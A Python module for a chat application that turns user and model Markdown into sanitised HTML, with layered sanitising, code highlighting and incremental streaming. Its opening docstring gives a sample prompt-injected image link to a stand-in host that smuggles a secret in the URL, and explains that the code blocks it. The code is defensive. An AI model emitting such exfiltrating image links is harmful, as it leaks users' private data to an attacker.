"""Markdown (from users and from the model) to safe HTML.

Two layers, so that a mistake in one is caught by the other:

1. markdown-it-py with raw HTML off: ``<script>`` in the source comes out as text,
   and its link validator already refuses ``javascript:``/``vbscript:``/``data:``.
2. nh3 with a small allowlist: whatever the renderer (or Pygments) emitted, only
   known tags, ``class`` and a few attributes, and http/https/mailto links survive.

Images never load: a prompt-injected ``![](https://evil.example/?q=<secret>)``
would leak data the moment a browser fetched it, so images become plain links
the reader may choose to follow.

While a reply streams, :class:`StreamingMarkdown` renders each finished top-level
block once and re-renders only the unfinished tail per frame.
"""

import functools
import re
from typing import NamedTuple

import nh3
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml, unescapeAll
from markdown_it.renderer import RendererHTML
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexer import Lexer
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

__all__ = [
    "StreamFrame",
    "StreamingMarkdown",
    "pygments_css",
    "render_markdown",
    "split_stable",
]

# Pygments lexers are regex machines; past this size a code block is shown
# unhighlighted rather than risk a slow frame.
MAX_HIGHLIGHT_CHARS = 100_000

LIGHT_STYLE = "default"
DARK_STYLE = "github-dark"

_LANGUAGE_CLASS_RE = re.compile(r"[A-Za-z0-9_+#.-]{1,40}")
_ALIGN_STYLE_RE = re.compile(r"text-align:(left|center|right)")
_SAFE_IMAGE_SCHEMES = ("http://", "https://")

_ALLOWED_TAGS = {
    "a",
    "blockquote",
    "br",
    "button",
    "code",
    "div",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "s",
    "span",
    "strong",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
}
_ALLOWED_ATTRIBUTES = {
    "a": {"href", "title", "class"},
    "button": {"class", "data-copy"},
    "code": {"class"},
    "div": {"class"},
    "ol": {"start"},
    "pre": {"class"},
    "span": {"class", "title"},
    "td": {"class"},
    "th": {"class"},
}


def _build_markdown() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
    md.add_render_rule("fence", _render_fence)
    md.add_render_rule("code_block", _render_code_block)
    md.add_render_rule("image", _render_image)
    md.add_render_rule("th_open", _render_table_cell_open)
    md.add_render_rule("td_open", _render_table_cell_open)
    return md


# --- renderer rules -------------------------------------------------------------


def _render_fence(
    self: RendererHTML,
    tokens: list[Token],
    idx: int,
    options: OptionsDict,
    env: EnvType,
) -> str:
    token = tokens[idx]
    info = unescapeAll(token.info).strip() if token.info else ""
    language = info.split(maxsplit=1)[0] if info else ""
    if token.meta.get("unclosed"):
        # Still being written (streaming): highlighted once its fence closes.
        return _code_block_html(token.content, language, colour=False)
    return _code_block_html(token.content, language)


def _render_code_block(
    self: RendererHTML,
    tokens: list[Token],
    idx: int,
    options: OptionsDict,
    env: EnvType,
) -> str:
    return _code_block_html(tokens[idx].content, "")


def _code_block_html(code: str, language: str, *, colour: bool = True) -> str:
    lexer = (
        _lexer_for(language) if colour and len(code) <= MAX_HIGHLIGHT_CHARS else None
    )
    body = highlight(code, lexer, _FORMATTER) if lexer else escapeHtml(code)
    # The info string is untrusted: it is shown escaped, and becomes a class only
    # when it looks like a language name.
    code_class = "highlight"
    if _LANGUAGE_CLASS_RE.fullmatch(language):
        code_class += f" language-{language.lower()}"
    label = escapeHtml(language[:40]) if language else "text"
    return (
        '<div class="codeblock"><div class="codeblock-bar">'
        f'<span class="codeblock-lang">{label}</span>'
        '<button type="button" class="copy-button" data-copy>Copy</button>'
        f'</div><pre><code class="{code_class}">{body}</code></pre></div>\n'
    )


@functools.lru_cache(maxsize=128)
def _lexer_for(language: str) -> Lexer | None:
    if not language:
        return None
    try:
        # stripnl=False keeps leading blank lines, so Copy gives back what was shown.
        return get_lexer_by_name(language.lower(), stripnl=False)
    except ClassNotFound:
        return None


_FORMATTER = HtmlFormatter(nowrap=True)


def _render_image(
    self: RendererHTML,
    tokens: list[Token],
    idx: int,
    options: OptionsDict,
    env: EnvType,
) -> str:
    token = tokens[idx]
    alt = self.renderInlineAsText(token.children or [], options, env) or "image"
    text = f"🖼 {escapeHtml(alt)}"
    src = str(token.attrGet("src") or "")
    title = token.attrGet("title")
    title_attr = f' title="{escapeHtml(str(title))}"' if title else ""
    # An image inside a link would nest <a> in <a>; keep the outer link.
    if _inside_link(tokens, idx) or not src.lower().startswith(_SAFE_IMAGE_SCHEMES):
        return f'<span class="md-image"{title_attr}>{text}</span>'
    return f'<a class="md-image" href="{escapeHtml(src)}"{title_attr}>{text}</a>'


def _inside_link(tokens: list[Token], idx: int) -> bool:
    depth = 0
    for token in tokens[:idx]:
        if token.type == "link_open":
            depth += 1
        elif token.type == "link_close":
            depth -= 1
    return depth > 0


def _render_table_cell_open(
    self: RendererHTML,
    tokens: list[Token],
    idx: int,
    options: OptionsDict,
    env: EnvType,
) -> str:
    # markdown-it aligns cells with style="text-align:..", which the sanitiser
    # drops (no style attributes at all); a class carries the alignment instead.
    token = tokens[idx]
    match = _ALIGN_STYLE_RE.fullmatch(str(token.attrGet("style") or ""))
    if match:
        return f'<{token.tag} class="align-{match[1]}">'
    return f"<{token.tag}>"


_MD = _build_markdown()
# Finding block boundaries needs the block structure only; skipping inline
# parsing keeps split_stable() much cheaper than a render.
_BLOCK_MD = _build_markdown().disable(["inline", "text_join"])


# --- rendering ------------------------------------------------------------------


def render_markdown(text: str, *, streaming: bool = False) -> str:
    """Render Markdown to sanitised HTML; safe to mark safe in a template.

    `streaming`: the text is still growing, so a code block that runs to its
    end with no closing fence yet is shown unhighlighted. Pygments re-lexed
    the whole block on every frame: 25-45 ms a frame for a 120-line block
    being written (bench/markdown_frames.py), where the rest of a frame costs
    microseconds.
    """
    if not streaming:
        return _sanitise(_MD.render(text))
    env: EnvType = {}
    tokens = _MD.parse(text, env)
    # A block that reaches the last line may still grow; one that its list
    # item or quote ended is as final as a closed one.
    lines = _line_count(text)
    for token in tokens:
        if (
            token.type == "fence"
            and not _fence_closed(token)
            and (token.map or (0, 0))[1] >= lines
        ):
            token.meta["unclosed"] = True
    return _sanitise(_MD.renderer.render(tokens, _MD.options, env))


def _line_count(text: str) -> int:
    # As markdown-it counts them: a last line of only spaces ends no block.
    text = _normalise_newlines(text)
    return text.count("\n") + bool(text[text.rfind("\n") + 1 :].strip(" \t"))


def _fence_closed(token: Token) -> bool:
    # markdown-it's fence spans its opening line, its content lines and, only
    # when it found one, the closing line (rules_block/fence.py).
    start, end = token.map or (0, 0)
    content_lines = token.content.count("\n") + (
        1 if token.content and not token.content.endswith("\n") else 0
    )
    return end - start - 1 > content_lines


def _sanitise(html: str) -> str:
    return _cleaner().clean(html)


@functools.cache
def _cleaner() -> nh3.Cleaner:
    # Built once: nh3.clean() builds its allowlists anew on every call, which
    # cost more than the Markdown render of a streamed tail.
    return nh3.Cleaner(
        tags=_ALLOWED_TAGS,
        clean_content_tags={"script", "style"},
        attributes=_ALLOWED_ATTRIBUTES,
        link_rel="noopener noreferrer nofollow",
        set_tag_attribute_values={
            "a": {"target": "_blank"},
            "button": {"type": "button"},
        },
        url_schemes={"http", "https", "mailto"},
        # A relative href would point into this site; model output has no business
        # linking there.
        url_relative="deny",
    )


# --- streaming ------------------------------------------------------------------


def split_stable(text: str) -> tuple[str, str]:
    """Split *text* into ``(stable, tail)``, with ``stable + tail == text`` once
    newlines are normalised to ``\\n``.

    ``stable`` ends just before the start of the last top-level block, at a blank
    line, once that block's first line is complete. Block boundaries come from
    markdown-it's own block parser, so blank lines inside fenced code, inside a
    list (loose items, indented continuations) or inside indented code never
    split. No text appended later changes how ``stable`` renders, and
    ``render_markdown(stable) + render_markdown(tail) == render_markdown(text)``,
    unless the text holds a link reference definition (``[x]: https://...``),
    which :class:`StreamingMarkdown` handles by rendering in one piece.
    """
    return _split_stable(text, {})


def _split_stable(text: str, env: EnvType) -> tuple[str, str]:
    text = _normalise_newlines(text)
    starts = [
        token.map[0]
        for token in _BLOCK_MD.parse(text, env)
        if token.level == 0 and token.nesting >= 0 and token.map
    ]
    if len(starts) < 2:
        return "", text
    line_offsets = [0]
    line_offsets.extend(m.end() for m in re.finditer("\n", text))
    # Walk back from the last block to one that follows a blank line (the
    # clearest sign the block before it is closed) and whose first line is
    # complete: "2" is a paragraph that ends a list, "2." continues it.
    for line in reversed(starts[1:]):
        previous = text[line_offsets[line - 1] : line_offsets[line]]
        if not previous.strip(" \t\n") and line + 1 < len(line_offsets):
            offset = line_offsets[line]
            return text[:offset], text[offset:]
    return "", text


# One line of prose: it starts with a letter (so it is a paragraph, not a list,
# heading, quote or code) and holds nothing Markdown or HTML gives a meaning to
# (no `*_[]<>&|~\\` or backtick) and nothing the sanitiser rewrites.
_PLAIN_CHARS = r"(?:[^\W_]|[ .,;:?!'\"()/%$@+=\-，。！？、；：（）「」《》“”‘’…—])*"  # noqa: RUF001
_PLAIN_LINE_RE = re.compile(r"[^\W\d_]" + _PLAIN_CHARS)
# What may follow a start already known to be a plain line.
_PLAIN_MORE_RE = re.compile(_PLAIN_CHARS)


_CLOSED_PLAIN_PARAGRAPH_RE = re.compile(_PLAIN_LINE_RE.pattern + r" *\n(?:[ \t]*\n)+")


def plain_paragraph_html(text: str) -> str:
    """`render_markdown(text)` for one plain line of prose, without parsing it
    (a streamed tail is re-rendered on every frame); "" for anything else."""
    line = text.rstrip("\n").rstrip(" ")
    if not _PLAIN_LINE_RE.fullmatch(line):
        return ""
    return _paragraph(line)


def _paragraph(line: str) -> str:
    # What markdown-it makes of a line that plain_paragraph_html() accepts.
    return f"<p>{line}</p>\n"


def _normalise_newlines(text: str) -> str:
    # markdown-it counts lines after this same normalisation.
    return text.replace("\r\n", "\n").replace("\r", "\n")


class StreamFrame(NamedTuple):
    stable_changed: bool
    stable_html: str
    tail_html: str


class StreamingMarkdown:
    """Render a growing message without re-rendering what is already final.

    Contract: call :meth:`feed` with the *whole* text so far on every frame. It
    returns ``(stable_changed, stable_html, tail_html)``; the caller shows
    ``stable_html + tail_html``, and may keep the stable part in place and swap
    only the tail when ``stable_changed`` is false. For any text,
    ``stable_html + tail_html == render_markdown(text, streaming=True)`` (a code
    block whose fence is still open is unhighlighted), and with ``final=True``
    ``== render_markdown(text)``: the last frame, fed with ``final=True``, is the
    final rendering; no separate full render is needed at completion.

    Each stable block is rendered once while the text only grows. If the text
    is not an extension of the previous one (an edit, a retry), the cache starts
    over. Link reference definitions (``[x]: https://...``) apply to the whole
    document, including blocks already rendered, so once one appears the
    message is rendered in one piece on every frame (rare in model output).
    """

    def __init__(self) -> None:
        self._reset()

    def _reset(self) -> None:
        self._raw = ""
        self._text = ""
        self._stable_text = ""
        self._stable_html = ""
        self._whole_document = False
        # How much of the tail (the text after the stable part) is known to be
        # one plain line of prose; 0 if unknown.
        self._plain_tail = 0
        # The text's length when its blocks were last split (0: never).
        self._split_at = 0
        self._lists = _TightListTail()

    def feed(self, raw: str, *, final: bool = False) -> StreamFrame:
        # A frame costs what was added, not the whole text: only the new part
        # is normalised, and a plain line that grows is only checked where it
        # grew (a reply's text is fed on every frame; bench/concurrency.py).
        previous_html = self._stable_html
        if self._raw and raw.startswith(self._raw) and not self._raw.endswith("\r"):
            text = self._text + _normalise_newlines(raw[len(self._raw) :])
        else:
            text = _normalise_newlines(raw)
            if not text.startswith(self._text):
                self._reset()
        self._raw = raw
        self._text = text
        rest = text[len(self._stable_text) :]
        known = self._plain_tail
        if known and len(rest) >= known and _PLAIN_MORE_RE.fullmatch(rest, known):
            self._plain_tail = len(rest)
            return StreamFrame(False, self._stable_html, _paragraph(rest.rstrip(" ")))
        self._plain_tail = 0
        if not self._whole_document:
            # The common frames, without a parse: paragraphs of prose that a
            # blank line closed are final (nothing after a blank line changes
            # a paragraph), and a line of prose being written is the tail.
            while paragraph := _CLOSED_PLAIN_PARAGRAPH_RE.match(rest):
                self._stable_text += paragraph.group()
                self._stable_html += self._render(paragraph.group())
                rest = rest[paragraph.end() :]
            if not rest or _PLAIN_LINE_RE.fullmatch(rest.rstrip("\n").rstrip(" ")):
                if "\n" not in rest:
                    self._plain_tail = len(rest)
                return StreamFrame(
                    self._stable_html != previous_html,
                    self._stable_html,
                    self._render(rest, streaming=not final),
                )
        env: EnvType = {}
        if not self._whole_document:
            if self._unchanged_blocks(text) or _unsplittable(rest):
                new_stable, tail = "", rest
            else:
                new_stable, tail = _split_stable(rest, env)
                self._split_at = len(text)
        if self._whole_document or env.get("references"):
            self._whole_document = True
            self._stable_text, self._stable_html = "", ""
            return StreamFrame(
                previous_html != "", "", self._render(text, streaming=not final)
            )
        if new_stable:
            self._stable_text += new_stable
            self._stable_html += self._render(new_stable)
        # Only the tail can hold a code block still open: it runs to the end.
        return StreamFrame(
            self._stable_html != previous_html,
            self._stable_html,
            (not final and self._lists.render(tail))
            or self._render(tail, streaming=not final),
        )

    def _unchanged_blocks(self, text: str) -> bool:
        """Whether the text can have no new stable block since the last split.

        A split needs a complete line (a block's first) after a blank one, so
        text added within the last line adds none: where complete lines' blocks
        start depends only on them and the lines before. Unless the last line
        may be a link reference definition, which changes the whole document.
        """
        return (
            bool(self._split_at)
            and "\n" not in text[self._split_at :]
            and "[" not in text[text.rfind("\n") + 1 :]
        )

    def _render(self, text: str, *, streaming: bool = False) -> str:
        return plain_paragraph_html(text) or render_markdown(text, streaming=streaming)


_BLANK_LINE_RE = re.compile(r"\n[ \t]*\n")


def _unsplittable(rest: str) -> bool:
    """Whether `_split_stable(rest)` finds no stable part, without parsing:
    a split is at a block after a blank line, and only a link reference
    definition (``[x]: ...``) changes the rest of the document."""
    return not _BLANK_LINE_RE.search(rest) and "]:" not in rest


# A list item's first line: its marker, one space, and its first character.
_ITEM_RE = re.compile(r"([-*+]|\d{1,9}[.)]) (?=\S)")
_THEMATIC_BREAK_RE = re.compile(r" {0,3}([-*_])(?:[ \t]*\1){2,}[ \t]*")


class _TightListTail:
    """A tail that is one tight list, rendered item by item: the items before
    the last are rendered once, not on every frame (a 120-item list cost
    10 ms a frame rendered whole; bench/markdown_frames.py).

    Only where the result is what a full render gives: every line of the
    tail starts an item with the first item's marker, one space and text, or
    continues the item above, indented by that item's marker and space. No
    blank line (the list may turn loose, or end), no tab, no lazy line, no
    reference definition (the caller renders such a document whole). An item
    alone renders as it does in a tight list: its content is its own. Anything
    else returns "", and the caller renders the tail whole.
    """

    def __init__(self) -> None:
        self.marker = ""
        self.done_text = ""  # the items rendered, a prefix of the tail
        self.done_html = ""
        self.open_tag = ""

    def render(self, tail: str) -> str:
        first = _ITEM_RE.match(tail)
        if first is None or "\t" in tail or _BLANK_LINE_RE.search(tail):
            return ""
        # "-", "*", "+", or an ordered list's "." or ")".
        marker = first.group(1)[-1]
        if marker != self.marker or not tail.startswith(self.done_text):
            self.marker, self.done_text, self.done_html = marker, "", ""
        items = _items(tail[len(self.done_text) :], marker)
        if not items:
            return ""
        for item in items[:-1]:
            # Closed by the next: a code block it left open is final.
            html = self._item_html(item, streaming=False)
            if not html:
                return ""
            self.done_text += item
            self.done_html += html
        last = self._item_html(items[-1], streaming=True)
        if not last:
            return ""
        return self.open_tag + self.done_html + last + _close_tag(self.open_tag)

    def _item_html(self, item: str, *, streaming: bool) -> str:
        """The item's `<li>`, from a render of it alone; "" if that is not
        one list (the item's last line started another block)."""
        html = render_markdown(item, streaming=streaming)
        open_tag, _, rest = html.partition("\n")
        close = _close_tag(open_tag)
        if not open_tag.startswith(("<ul>", "<ol")) or not rest.endswith(close):
            return ""
        if not self.done_text:
            self.open_tag = open_tag + "\n"
        return rest[: -len(close)]


def _close_tag(open_tag: str) -> str:
    return "</ul>\n" if open_tag.startswith("<ul") else "</ol>\n"


def _items(text: str, marker: str) -> list[str]:
    """`text` cut into list items with `marker` ("-", "*", "+", "." or ")"),
    each with its lines; [] where a line neither starts nor continues one.

    A line still being written ("-", "- ", "1") may yet be anything: it goes
    with the last item, which is rendered with it, as a full render would
    read it after that item (the items before are closed by the last one)."""
    items: list[str] = []
    indent = 0
    for line in text.splitlines(keepends=True):
        start = _ITEM_RE.match(line)
        if (
            start is not None
            and start.group(1).endswith(marker)
            and not _THEMATIC_BREAK_RE.fullmatch(line.rstrip("\n"))
        ):
            items.append(line)
            indent = start.end()
        elif items and (
            (line.startswith(" " * indent) and line.strip()) or not line.endswith("\n")
        ):
            items[-1] += line
        else:
            return []
    return items


# --- stylesheet -----------------------------------------------------------------


def pygments_css() -> str:
    """CSS for highlighted code, following the ``data-theme`` attribute of
    ``<html>`` ("light" or "dark") and, without one, the system preference.

    Exactly one theme's rules match at a time, so a property that only the light
    style sets (a bold keyword, a red error border) never leaks into dark.
    ``static/css/pygments.css`` is this output; regenerate it after changing the
    styles with ``python -c "from conversations.rendering import pygments_css
    as c; print(c(), end='')" > static/css/pygments.css``.
    """
    return "\n".join(
        [
            "/* Generated by conversations.rendering.pygments_css(); do not edit. */",
            *_style_rules(LIGHT_STYLE, ':root[data-theme="light"] '),
            "@media not all and (prefers-color-scheme: dark) {",
            *_style_rules(LIGHT_STYLE, ':root:not([data-theme="dark"]) ', "  "),
            "}",
            *_style_rules(DARK_STYLE, ':root[data-theme="dark"] '),
            "@media (prefers-color-scheme: dark) {",
            *_style_rules(DARK_STYLE, ':root:not([data-theme="light"]) ', "  "),
            "}",
            "",
        ]
    )


def _style_rules(style: str, scope: str, indent: str = "") -> list[str]:
    formatter = HtmlFormatter(style=style)
    background = [
        rule
        for rule in formatter.get_background_style_defs(f"{scope}.codeblock")
        if " .hll " not in rule
    ]
    rules = background + formatter.get_token_style_defs(f"{scope}.highlight")
    return [indent + rule for rule in rules]
